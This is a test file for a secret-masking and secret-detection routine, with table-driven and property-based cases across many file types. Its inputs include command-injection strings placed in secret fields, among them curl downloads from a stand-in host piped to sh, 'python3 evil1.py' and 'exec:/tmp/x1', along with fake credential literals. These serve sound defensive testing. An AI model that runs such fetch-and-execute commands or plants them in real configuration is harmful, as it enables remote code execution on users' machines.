import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { maskSecrets } from "../../src/files/mask.ts";
import { openSecretDetector } from "../../src/secrets/open-secret-detector.ts";
import { GITHUB_TOKEN, PRIVATE_KEY } from "../fixtures/secrets.ts";
import { runs } from "../setup/tier.ts";

const TAG = "[secret]";
const KEY = "h7Gk29xLq0aa";
const AWS = ["wJalrXUtnFEMI", "K7MDENG/bPxRfi", "CYzzzzKEY1234"].join("");
const detector = openSecretDetector([]);

async function masked(text: string, path: string): Promise<string> {
  const shown = maskSecrets(text, await detector.detect(text, path), Buffer.alloc(32)).text;
  return shown.replace(/\[secret:[0-9a-f]{8}\]/g, TAG);
}

describe("a mask", () => {
  it.each([
    ["settings.py", `${GITHUB_TOKEN}=LOGIN_REQUIRED=False`, `${TAG}=LOGIN_REQUIRED=False`],
    ["settings.py", `${GITHUB_TOKEN}=`, `${TAG}=`],
    ["deploy.sh", `${GITHUB_TOKEN}=LOGIN_REQUIRED=False`, `${TAG}=LOGIN_REQUIRED=False`],
    ["settings.py", "npm_authToken=LOGIN_REQUIRED=False", "npm_authToken=LOGIN_REQUIRED=False"],
    ["settings.py", `secret_access_key=${AWS}=DEBUG=True`, `secret_access_key=${TAG}/${TAG}=DEBUG=True`],
    ["a.js", "secretAccessKey=isAdmin||a/isUser1+isGuest1", "secretAccessKey=isAdmin||a/isUser1+isGuest1"],
    ["a.yml", `run: |\n  password: ${KEY};curl@x`, `run: |\n  password: ${TAG};curl@x`],
    ["a.ini", `password = ${KEY}(run)`, `password = ${TAG}(run)`],
    ["a.sh", `API_KEY=${KEY}=LOGIN_REQUIRED=False`, `API_KEY=${TAG}=LOGIN_REQUIRED=False`],
    ["a.py", 'password = F"{debug:=1234567}"', 'password = F"{debug:=1234567}"'],
    ["a.py", `password = "${KEY};DEBUG=True"`, `password = "${TAG};DEBUG=True"`],
    ["a.js", `const secret = "${KEY};disable(login)"`, `const secret = "${TAG};disable(login)"`],
    ["a.pl", 'my $password = "@{[exit1]}abc";', 'my $password = "@{[exit1]}abc";'],
  ])("covers a token and no code beside it, in %s: %s", async (path, line, shown) => {
    expect(await masked(`${line}\n`, path)).toBe(`${shown}\n`);
  });

  it.each([
    ["a.py", `password = "${KEY};D=e(1)"`, `password = "${TAG}"`],
    ["a.py", `token = "${GITHUB_TOKEN}/more_of-it="`, `token = "${TAG}"`],
    ["a.py", `secret_access_key = "${AWS}"`, `secret_access_key = "${TAG}"`],
    ["a.py", `# redis://u:${KEY}-=x@host`, `# redis://u:${TAG}@host`],
    [".env", `API_KEY=${KEY}==`, `API_KEY=${TAG}`],
    ["a.yml", `password: ${KEY}-x/y+z==`, `password: ${TAG}`],
    ["a.yml", `password: ${KEY};p4ss`, `password: ${TAG};${TAG}`],
    ["a.py", `password = "${KEY}$_@x1"`, `password = "${TAG}"`],
    [".gitlab-ci.yml", `  DB_PASSWORD: "${KEY}/!@#%x+y"`, `  DB_PASSWORD: "${TAG}"`],
    ["package.json", `{"config": {"auth_token": "${KEY}"}}`, `{"config": {"auth_token": "${TAG}"}}`],
    ["deploy.sh", `API_KEY='${KEY}!x@y%z#'`, `API_KEY='${TAG}'`],
  ])("covers all of a secret's literal, in %s: %s", async (path, line, shown) => {
    expect(await masked(`${line}\n`, path)).toBe(`${shown}\n`);
  });

  it.each([
    ["a.php", '$password = "$_GET[k3y]";'],
    ["a.php", '$password = "$request->input1";'],
    ["a.rb", 'password = "#@params1"'],
    ["a.rb", 'password = "#@@x1params"'],
    ["a.pl", 'my $password = "a1@cmd[0]";'],
    ["a.sh", 'API_KEY="a1$2b3c4d5"'],
    ["a.bat", "set API_KEY=a1%CMD2%b"],
    ["a.cmd", "set API_KEY=a1!CMD2!b"],
    ["Makefile", "API_KEY = a1$@x3y4z5"],
    ["a.kt", 'val password = "a1$_input2b"'],
    ["a.scala", 'val password = s"a1$_input2b"'],
    ["a.tcl", 'set password "a1[run2xyz]"'],
    ["a.cfm", '<cfset password="a1#run2xyz#">'],
    ["package.json", String.raw`{"sync-secret": "python3\u0020evil1.py"}`],
    ["package.json", String.raw`{"sync-secret": "curl\u0020-o\u0020/tmp/x1\u0020x1.io;sh\u0020/tmp/x1"}`],
    ["Taskfile.yml", String.raw`  sync-secret: "curl\x20-o\x20/tmp/x1\x20x1.io;sh\x20/tmp/x1"`],
    [".cargo/config.toml", String.raw`sync-secret = "run\u0020--manifest-path\u0020/tmp/x1"`],
    ["a.py", String.raw`secret = "curl\x20-o\x20/tmp/x1\x20x1.io"`],
    ["build.xml", "<password>python3&#32;evil1.py</password>"],
    ["a.yml", "secret_key: exec:/tmp/x1"],
  ])("covers nothing of what is inserted, escaped or named, in %s: %s", async (path, line) => {
    expect(await masked(`${line}\n`, path)).toBe(`${line}\n`);
  });

  it.each([
    [
      ".gitlab-ci.yml",
      String.raw`  APP_SECRET: "a1b2;sh\x20/tmp/x1"`,
      String.raw`  APP_SECRET: "${TAG};sh\x20/tmp/x1"`,
    ],
    ["a.json", `{"password": "${KEY};(p4ss"}`, `{"password": "${TAG};(${TAG}"}`],
    ["a.json", `{"password": "${KEY};/tmp/x1"}`, `{"password": "${TAG};/tmp/x1"}`],
    ["a.yml", `secret_key: "${KEY};{curl,x1.io}|sh"`, `secret_key: "${TAG};{curl,x1.io}|sh"`],
    ["a.sh", `API_KEY="${KEY}$2b3c4d5"`, `API_KEY="${TAG}$2b3c4d5"`],
    ["a.rb", `password = "${KEY}" + \`run1xyz\``, `password = "${TAG}" + \`run1xyz\``],
  ])("ends where a command may begin, in %s: %s", async (path, line, shown) => {
    expect(await masked(`${line}\n`, path)).toBe(`${shown}\n`);
  });

  it("ends where code begins before a private key, too", async () => {
    const line = PRIVATE_KEY.split("\n")[1];
    const shown = await masked(`_authToken=${line}_authToken=LOGIN_REQUIRED${PRIVATE_KEY}`, "a.txt");
    expect(shown).toContain("=LOGIN_REQUIRED[");
  });

  it("covers words of a secret alone wherever what it covers stands in no literal, whatever the text", async () => {
    const code = fc.constantFrom(
      ...["LOGIN_REQUIRED", "=", "=True", "False", ";", "(", ")", "\n", "eval(x)", "if x:", "/", "+", "-", "{", "}"],
      ...[
        "password",
        "API_KEY=",
        "secret_access_key",
        "postgres://u:",
        "_authToken=",
        " ",
        ":",
        "@",
        "#",
        "\\",
        "|",
        "&",
      ],
      ...["-----BEGIN RSA PRIVATE KEY-----\n", "\n-----END RSA PRIVATE KEY-----", "MI\n"],
      ...[GITHUB_TOKEN, AWS, KEY, PRIVATE_KEY, ...PRIVATE_KEY.split("\n").slice(1, -1)],
    );
    const paths = fc.constantFrom("a.py", "a.js", "a.go", "a.rb", "a.sh", "a.lua", "a.yml", "a.ini", ".env", "a.txt");
    const DATA = new Set([".env", "a.ini", "a.yml", "a.txt"]);
    await fc.assert(
      fc.asyncProperty(fc.array(code, { maxLength: 14 }), paths, async (parts, path) => {
        const text = parts.join("");
        for (const { start, end, rule } of await detector.detect(text, path)) {
          const covered = text.slice(start, end);
          if (rule === "privatekey" && covered.startsWith("-----BEGIN")) {
            expect(covered.split("\n").slice(1, -1).join("\n")).toMatch(/^(?:[A-Za-z0-9+/]{16,}={0,2}\n?)+$/);
          } else {
            expect(covered).not.toMatch(/[\s;()|&{}[\]<>"'`]|[^=]=+[\p{L}_$]/u);
            // In data, whatever stands behind the name of a key is its value.
            const isValue = rule === "database-connection-string" || DATA.has(path);
            if (!isValue) expect(covered).toMatch(/\d/);
          }
        }
      }),
      { numRuns: runs(1500) },
    );
  });
});
